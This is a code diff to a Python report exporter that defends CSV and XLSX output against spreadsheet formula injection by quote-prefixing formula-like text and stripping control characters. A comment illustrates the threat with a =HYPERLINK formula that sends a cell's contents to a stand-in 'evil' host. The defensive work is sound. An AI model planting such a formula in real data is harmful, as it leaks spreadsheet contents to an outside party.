@@ -179,17 +179,36 @@ def event_rows(figures: dict) -> list[dict]:
     return rows
 
 
+# Formula injection (OWASP "CSV Injection"): a spreadsheet reads a cell that starts with one of these
+# as a formula, so a feed title =HYPERLINK("http://evil?leak="&A1,"…") would run in the duty
+# office's Excel. Text is what the titles, names and notes of a report are, whoever wrote them.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _looks_like_formula(value: str) -> bool:
+    return value.startswith(FORMULA_START) or value.lstrip(" \u3000").startswith(FORMULA_START[:4])
+
+
+def defused(value):
+    """A CSV field as text: prefixed with ' when a spreadsheet would take it for a formula. Numbers
+    are not strings and stay numbers (-0.5 is a number, not an attack)."""
+    if isinstance(value, str) and _looks_like_formula(value):
+        return "'" + value
+    return value
+
+
 def render_csv(rows: list[dict], columns: list[str]) -> bytes:
     out = io.StringIO()
     writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore", lineterminator="\r\n")
     writer.writeheader()
-    writer.writerows(rows)
+    writer.writerows({key: defused(value) for key, value in row.items()} for row in rows)
     # A byte-order mark: Excel, which most press offices open CSV with, otherwise reads GBK.
     return "\ufeff".encode() + out.getvalue().encode("utf-8")
 
 
 def render_xlsx(figures: dict, items: list[dict], labels: dict[str, str]) -> bytes:
     from openpyxl import Workbook
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
     from openpyxl.styles import Font
 
     book = Workbook()
@@ -201,7 +220,16 @@ def render_xlsx(figures: dict, items: list[dict], labels: dict[str, str]) -> byt
         for cell in ws[1]:
             cell.font = bold
         for row in rows:
-            ws.append(row)
+            # Control characters are not allowed in XLSX (openpyxl refuses the whole report).
+            ws.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
+            for cell in ws[ws.max_row]:
+                if isinstance(cell.value, str):
+                    # openpyxl stores a string starting with = as a formula: store every string as
+                    # a string, and mark formula-like ones quote-prefixed so that editing the cell
+                    # in Excel keeps it text. The text itself is left as it was.
+                    cell.data_type = "s"
+                    if _looks_like_formula(cell.value):
+                        cell.quotePrefix = True
         ws.freeze_panes = "A2"
         for column, name in zip(ws.columns, header):
             width = max([len(str(name)) * 2, *(min(len(str(c.value or "")), 60) for c in column)])
